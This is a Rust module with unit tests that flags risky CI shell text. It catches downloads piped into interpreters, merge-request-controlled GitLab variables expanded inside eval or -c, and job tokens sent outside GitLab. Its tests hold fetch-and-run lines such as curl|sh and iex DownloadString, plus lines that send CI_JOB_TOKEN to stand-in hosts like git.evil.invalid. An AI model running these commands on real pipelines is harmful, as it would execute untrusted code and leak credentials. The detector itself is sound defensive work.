//! Risky shapes in shell text (`run:` of GitHub, `script:` of GitLab).
//!
//! The text is split into logical lines (backslash-newline continuations
//! joined) and each is looked at on its own; nothing is executed or fully
//! parsed, so the checks are deliberately narrow:
//!
//! - [`downloads_into_interpreter`]: a download (`curl`, `wget`,
//!   `Invoke-WebRequest`, `iwr`, `irm`) piped into an interpreter (`sh`,
//!   `bash`, `zsh`, `python`, `perl`, `node`, `iex`, … after `sudo`/`env`),
//!   fed by process substitution (`bash <(curl …)`, `source <(wget …)`), or
//!   evaluated by command substitution (`bash -c "$(curl …)"`, `eval "$(wget …)"`),
//!   and PowerShell's `iex (iwr …)` / `DownloadString`.
//! - [`evaluated_variables`]: one of [`INJECTABLE`] (text a merge-request or
//!   commit author chooses) expanded where the shell parses it again as code:
//!   after `eval`, in the argument of `sh -c`, `bash -c`, `python -c`,
//!   `perl -e`, `node -e`, `ruby -e`, `pwsh -Command` or `Invoke-Expression`,
//!   outside single quotes. A plain `echo "$CI_COMMIT_MESSAGE"` is an
//!   ordinary expansion, not an injection, and is not counted.
//! - [`job_token_hosts`]: hosts outside GitLab that a line sends
//!   `CI_JOB_TOKEN` to (a literal URL, or the registry of `docker login`).

/// GitLab predefined variables whose value a merge-request or commit author chooses.
pub const INJECTABLE: [&str; 11] = [
    "CI_MERGE_REQUEST_TITLE",
    "CI_MERGE_REQUEST_DESCRIPTION",
    "CI_COMMIT_MESSAGE",
    "CI_COMMIT_TITLE",
    "CI_COMMIT_DESCRIPTION",
    "CI_COMMIT_TAG_MESSAGE",
    "CI_COMMIT_BRANCH",
    "CI_COMMIT_REF_NAME",
    "CI_COMMIT_AUTHOR",
    "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
    "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
];

/// Most logical lines looked at in one script.
pub const MAX_LINES: usize = 20_000;

const DOWNLOADERS: [&str; 7] = [
    "curl",
    "curl.exe",
    "wget",
    "iwr",
    "invoke-webrequest",
    "irm",
    "invoke-restmethod",
];

const INTERPRETERS: [&str; 20] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "ash",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "pwsh",
    "powershell",
    "iex",
    "invoke-expression",
    "source",
    ".",
];

/// The logical lines of `text`: continuations joined, at most [`MAX_LINES`].
pub fn logical_lines(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut current = String::new();
    for line in text.lines() {
        if out.len() >= MAX_LINES {
            break;
        }
        match line.strip_suffix('\\') {
            Some(head) => {
                current.push_str(head);
                current.push(' ');
            }
            None => {
                current.push_str(line);
                out.push(std::mem::take(&mut current));
            }
        }
    }
    if !current.is_empty() && out.len() < MAX_LINES {
        out.push(current);
    }
    out
}

/// The words of a command text: split at whitespace and shell punctuation.
fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| {
        c.is_whitespace() || matches!(c, ';' | '&' | '(' | ')' | '`' | '"' | '\'' | '{' | '}')
    })
    .filter(|w| !w.is_empty())
}

/// A word's command name: the basename of a path (`/usr/bin/bash` → `bash`).
fn command_name(word: &str) -> &str {
    match word.rsplit_once('/') {
        Some((_, base)) if !base.is_empty() => base,
        _ => word,
    }
}

/// Splits at top-level pipes (`|`, not `||`), outside quotes.
fn pipeline(line: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let bytes = line.as_bytes();
    let (mut single, mut double) = (false, false);
    let mut start = 0;
    for (i, &b) in bytes.iter().enumerate() {
        match b {
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b'|' if !single && !double => {
                let doubled =
                    bytes.get(i + 1) == Some(&b'|') || (i > 0 && bytes.get(i - 1) == Some(&b'|'));
                if !doubled {
                    out.push(line.get(start..i).unwrap_or_default());
                    start = i + 1;
                }
            }
            _ => {}
        }
    }
    out.push(line.get(start..).unwrap_or_default());
    out
}

/// The command a pipeline segment runs, skipping `sudo` (and its flags),
/// `env`, `exec`, `command` and `VAR=value` assignments.
fn first_command(segment: &str) -> Option<&str> {
    let mut iter = segment.split_whitespace();
    while let Some(word) = iter.next() {
        match word {
            "sudo" | "env" | "exec" | "command" | "nohup" | "time" => {}
            w if w.starts_with('-') => {
                if w == "-u" || w == "-g" {
                    iter.next();
                }
            }
            w if w.contains('=') && !w.starts_with('=') => {}
            w => return Some(command_name(w)),
        }
    }
    None
}

/// Whether `word` ends an evaluator for command substitution before it.
fn has_evaluator_before(line: &str, at: usize) -> bool {
    let head = line.get(..at).unwrap_or_default();
    let list: Vec<&str> = words(head).collect();
    list.contains(&"eval")
        || list.windows(2).any(|pair| match pair {
            [interpreter, flag] => {
                INTERPRETERS.contains(&command_name(interpreter))
                    && matches!(*flag, "-c" | "-e" | "-command")
            }
            _ => false,
        })
}

/// The logical lines of `text` that run a downloaded script (lowercased, as found).
pub fn downloads_into_interpreter(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in logical_lines(text) {
        let lower = line.to_ascii_lowercase();
        if fetches_and_runs(&lower) {
            out.push(line.trim().to_owned());
        }
    }
    out
}

fn fetches_and_runs(lower: &str) -> bool {
    let downloads = |text: &str| words(text).any(|w| DOWNLOADERS.contains(&command_name(w)));
    // curl … | sh
    let segments = pipeline(lower);
    let piped = segments.windows(2).any(|pair| match pair {
        [from, into] => {
            downloads(from) && first_command(into).is_some_and(|c| INTERPRETERS.contains(&c))
        }
        _ => false,
    });
    if piped {
        return true;
    }
    // bash <(curl …), source <(wget …)
    let mut rest = lower;
    let mut offset = 0;
    while let Some(at) = rest.find("<(") {
        let after = rest.get(at + 2..).unwrap_or_default().trim_start();
        let before = lower.get(..offset + at).unwrap_or_default();
        let feeds = words(before)
            .last()
            .is_some_and(|w| INTERPRETERS.contains(&command_name(w)));
        if feeds && DOWNLOADERS.iter().any(|d| after.starts_with(d)) {
            return true;
        }
        offset += at + 2;
        rest = rest.get(at + 2..).unwrap_or_default();
    }
    // bash -c "$(curl …)", eval "$(wget …)"
    for marker in ["$(curl", "$(wget", "`curl", "`wget"] {
        if let Some(at) = lower.find(marker)
            && has_evaluator_before(lower, at)
        {
            return true;
        }
    }
    // iex (iwr …), Invoke-Expression (New-Object Net.WebClient).DownloadString(…)
    let list: Vec<&str> = words(lower).collect();
    let evaluates = list
        .iter()
        .any(|w| *w == "iex" || *w == "invoke-expression");
    evaluates
        && (lower.contains("downloadstring")
            || list.iter().any(|w| DOWNLOADERS.contains(&command_name(w))))
}

/// The [`INJECTABLE`] variables `text` expands where the shell parses them again as code.
pub fn evaluated_variables(text: &str) -> Vec<&'static str> {
    let mut out: Vec<&'static str> = Vec::new();
    for line in logical_lines(text) {
        let lower = line.to_ascii_lowercase();
        let Some(start) = evaluator_end(&lower) else {
            continue;
        };
        let tail = line.get(start..).unwrap_or_default();
        for name in expanded_outside_single_quotes(tail) {
            if !out.contains(&name) {
                out.push(name);
            }
        }
    }
    out
}

/// Where the code an evaluator parses starts in the (lowercased) line, if it has one.
fn evaluator_end(lower: &str) -> Option<usize> {
    let mut best: Option<usize> = None;
    let mut consider = |at: usize| best = Some(best.map_or(at, |b| b.min(at)));
    // Word positions in the line.
    let mut positions = Vec::new();
    let mut index = 0;
    for piece in
        lower.split_inclusive(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '(')
    {
        let word =
            piece.trim_end_matches(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '(');
        if !word.is_empty() {
            positions.push((index, word));
        }
        index += piece.len();
    }
    for (i, (at, word)) in positions.iter().enumerate() {
        let name = command_name(word);
        if matches!(name, "eval" | "iex" | "invoke-expression") {
            consider(at + word.len());
        }
        if let Some((flag_at, flag)) = positions.get(i + 1) {
            let evaluates = match name {
                "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" => *flag == "-c",
                "python" | "python2" | "python3" => *flag == "-c",
                "perl" | "ruby" | "node" | "php" => matches!(*flag, "-e" | "-r"),
                "pwsh" | "powershell" => matches!(*flag, "-c" | "-command"),
                _ => false,
            };
            if evaluates {
                consider(flag_at + flag.len());
            }
        }
    }
    best
}

/// The [`INJECTABLE`] variables referenced in `text` outside single quotes.
fn expanded_outside_single_quotes(text: &str) -> Vec<&'static str> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    let (mut single, mut double) = (false, false);
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b'$' | b'%' if !single => {
                let rest = text.get(i + 1..).unwrap_or_default();
                let rest = rest
                    .strip_prefix('{')
                    .or_else(|| rest.strip_prefix("env:"))
                    .or_else(|| rest.strip_prefix("ENV:"))
                    .unwrap_or(rest);
                let name: String = rest
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                if let Some(found) = INJECTABLE.iter().find(|v| v.eq_ignore_ascii_case(&name))
                    && !out.contains(found)
                {
                    out.push(*found);
                }
            }
            _ => {}
        }
        i += 1;
    }
    out
}

/// The literal hosts outside `allowed` (and their subdomains) that a line
/// mentioning `CI_JOB_TOKEN` sends it to. Hosts built from variables
/// (`$CI_SERVER_HOST`, `${CI_API_V4_URL}`) are this instance and never counted.
pub fn job_token_hosts(text: &str, allowed: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    for line in logical_lines(text) {
        let lower = line.to_ascii_lowercase();
        if !lower.contains("ci_job_token") {
            continue;
        }
        let mut hosts = url_hosts(&lower);
        hosts.extend(login_registry(&lower));
        for host in hosts {
            let internal = host.contains(['$', '%', '{'])
                || allowed
                    .iter()
                    .any(|a| host == *a || host.ends_with(&format!(".{a}")));
            if !internal && !out.contains(&host) {
                out.push(host);
            }
        }
    }
    out
}

/// The hosts of every `http://` and `https://` URL in a (lowercased) line.
fn url_hosts(lower: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = lower;
    while let Some(at) = rest.find("://") {
        let scheme_ok = rest
            .get(..at)
            .is_some_and(|h| h.ends_with("http") || h.ends_with("https"));
        let after = rest.get(at + 3..).unwrap_or_default();
        if scheme_ok {
            let authority: String = after
                .chars()
                .take_while(|c| !matches!(c, '/' | '"' | '\'' | ' ' | '?' | '#' | '\t'))
                .collect();
            let host = authority.rsplit('@').next().unwrap_or_default();
            let host = match host.rsplit_once(':') {
                Some((h, port)) if port.chars().all(|c| c.is_ascii_digit()) => h,
                _ => host,
            };
            if !host.is_empty() {
                out.push(host.to_owned());
            }
        }
        rest = after;
    }
    out
}

/// The registry of `docker login …` (or podman/buildah/crane), if the line has one.
fn login_registry(lower: &str) -> Option<String> {
    let list: Vec<&str> = lower.split_whitespace().collect();
    let at = list.windows(2).position(|pair| {
        matches!(pair, [tool, "login"] if matches!(command_name(tool), "docker" | "podman" | "buildah" | "crane" | "skopeo"))
    })?;
    let mut args = list.get(at + 2..).unwrap_or_default().iter();
    let mut host = None;
    while let Some(word) = args.next() {
        match *word {
            "-u" | "-p" | "--username" | "--password" => {
                args.next();
            }
            w if w.starts_with('-') => {}
            w if w.starts_with("&&") || w == "|" || w == ";" => break,
            w => host = Some(w.trim_matches(|c| c == '"' || c == '\'').to_owned()),
        }
    }
    host.filter(|h| !h.contains("://"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_run_by_an_interpreter_are_found() {
        for risky in [
            "curl -fsSL https://get.example.invalid | sh",
            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
            "wget -qO- https://x.invalid/install.sh | sudo -E bash -",
            "curl -s https://x.invalid/i | sudo bash",
            "bash <(curl -s https://x.invalid/i.sh)",
            "source <(wget -O - https://x.invalid/env)",
            "sudo bash -c \"$(wget -O - https://apt.llvm.org/llvm.sh)\" ./llvm.sh 19",
            "sh -c \"$(curl -fsSL https://x.invalid/install.sh)\"",
            "eval \"$(curl -s https://x.invalid/env)\"",
            "curl https://x.invalid/a.py | python3 -",
            "iex ((New-Object System.Net.WebClient).DownloadString('https://x.invalid/i.ps1'))",
            "iwr https://x.invalid/i.ps1 -useb | iex",
            "curl -sL https://x.invalid/i.sh \\\n  | bash",
            "cd tools && curl -sSL https://x.invalid/i | /bin/bash",
        ] {
            assert_eq!(downloads_into_interpreter(risky).len(), 1, "{risky}");
        }
    }

    #[test]
    fn downloads_kept_as_data_are_not() {
        for safe in [
            "curl -fsSLo install.sh https://x.invalid/install.sh",
            "curl -s https://api.invalid/x | jq .name",
            "wget https://x.invalid/a.tar.gz && tar xzf a.tar.gz",
            "echo 'curl x | sh' > notes.txt",
            "curl -s https://x.invalid || bash fallback.sh",
            "cat script.sh | bash",
        ] {
            assert!(downloads_into_interpreter(safe).is_empty(), "{safe}");
        }
    }

    #[test]
    fn evaluated_variables_need_an_evaluator_outside_single_quotes() {
        assert_eq!(
            evaluated_variables("eval \"echo $CI_COMMIT_MESSAGE\""),
            ["CI_COMMIT_MESSAGE"]
        );
        assert_eq!(
            evaluated_variables("sh -c \"deploy ${CI_COMMIT_REF_NAME}\""),
            ["CI_COMMIT_REF_NAME"]
        );
        assert_eq!(
            evaluated_variables("python3 -c \"print('$CI_MERGE_REQUEST_TITLE')\""),
            ["CI_MERGE_REQUEST_TITLE"]
        );
        assert_eq!(
            evaluated_variables("Invoke-Expression \"echo $env:CI_COMMIT_TITLE\""),
            ["CI_COMMIT_TITLE"]
        );
        for safe in [
            "echo \"$CI_COMMIT_MESSAGE\"",
            "bash -c 'echo $CI_COMMIT_MESSAGE'",
            "eval 'echo $CI_COMMIT_TITLE'",
            "git commit -m \"$CI_MERGE_REQUEST_TITLE\"",
            "eval \"$(ssh-agent -s)\"",
            "sh -c \"echo $CI_COMMIT_SHA\"",
        ] {
            assert!(evaluated_variables(safe).is_empty(), "{safe}");
        }
    }

    #[test]
    fn job_tokens_sent_outside_gitlab_are_found() {
        let allowed = vec!["gitlab.com".to_owned()];
        assert_eq!(
            job_token_hosts(
                "curl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" https://collector.example.invalid/u",
                &allowed
            ),
            ["collector.example.invalid"]
        );
        assert_eq!(
            job_token_hosts(
                "git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@git.evil.invalid:8443/x.git",
                &allowed
            ),
            ["git.evil.invalid"]
        );
        assert_eq!(
            job_token_hosts(
                "docker login -u gitlab-ci-token -p $CI_JOB_TOKEN registry.evil.invalid",
                &allowed
            ),
            ["registry.evil.invalid"]
        );
        for safe in [
            "curl --header \"JOB-TOKEN: $CI_JOB_TOKEN\" \"${CI_API_V4_URL}/projects/1/packages\"",
            "git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@${CI_SERVER_HOST}/g/r.git",
            "curl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" https://gitlab.com/api/v4/projects",
            "docker login -u gitlab-ci-token -p $CI_JOB_TOKEN $CI_REGISTRY",
            "docker login -u gitlab-ci-token -p $CI_JOB_TOKEN registry.gitlab.com",
            "curl https://example.invalid/status",
        ] {
            assert!(job_token_hosts(safe, &allowed).is_empty(), "{safe}");
        }
    }
}
